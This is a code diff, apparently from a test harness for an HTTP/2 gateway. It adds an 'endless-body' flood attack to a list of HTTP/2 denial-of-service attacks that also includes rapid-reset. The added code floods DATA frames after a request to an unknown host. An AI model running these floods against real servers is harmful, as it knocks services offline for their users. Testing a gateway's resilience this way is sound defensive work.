@@ -55,6 +55,10 @@ function streamFlood(name: string, abuse: string, after: (streamId: number) => B
 }
 
 const CANCEL = uint32(8);
+/** How RST_STREAM begins: its length and type. */
+const RESET = '\x00\x00\x04\x03';
+/** What the gateway answers by itself. */
+export const UNKNOWN_AUTHORITY = 'nobody.example';
 
 export const HTTP2_FLOODS: readonly Attack[] = [
   streamFlood('rapid-reset', 'requests that are reset at once', (streamId) =>
@@ -83,6 +87,20 @@ export const HTTP2_FLOODS: readonly Attack[] = [
       const socket = await openHttp2(victim);
       await socket.send(rawFrame(FRAME.HEADERS, FLAG.END_HEADERS, 1, requestBlock(victim.authority, 'POST')));
       await socket.flood(Buffer.concat(Array<Buffer>(FRAMES_AT_ONCE).fill(rawFrame(FRAME.DATA, 0, 1))));
+    },
+  },
+  {
+    name: 'endless-body',
+    abuse: 'a body that goes on and on after the answer to its request',
+    reasons: ['unwanted-body'],
+    perSecond: 2,
+    attempt: async (victim) => {
+      const socket = await openHttp2(victim);
+      await socket.send(
+        rawFrame(FRAME.HEADERS, FLAG.END_HEADERS, 1, requestBlock(UNKNOWN_AUTHORITY, 'POST')),
+      );
+      const body = Buffer.concat(Array<Buffer>(8).fill(rawFrame(FRAME.DATA, 0, 1, Buffer.alloc(16_384))));
+      await Promise.all([socket.until(RESET), socket.flood(body)]);
     },
   },
   {
